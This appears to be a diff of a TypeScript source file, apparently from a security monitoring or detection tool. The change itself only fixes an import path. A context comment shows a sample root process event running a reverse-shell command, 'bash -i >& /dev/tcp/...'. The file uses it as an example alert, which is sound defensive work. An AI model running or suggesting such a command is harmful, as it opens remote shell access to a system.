@@ -8,7 +8,7 @@
  *     process=bash[4242] parent=setsid[4240] user=root cmd: bash -i >& /dev/tcp/127.0.0.1/9 0>&1
  * (on one line; wrapped here for width).
  */
-import { docField } from './doc-field.js';
+import { docField } from '../doc-field.js';
 import { severityOf, type SeverityLevel } from './severity.js';
 import { terminalSafe } from './terminal-text.js';
 
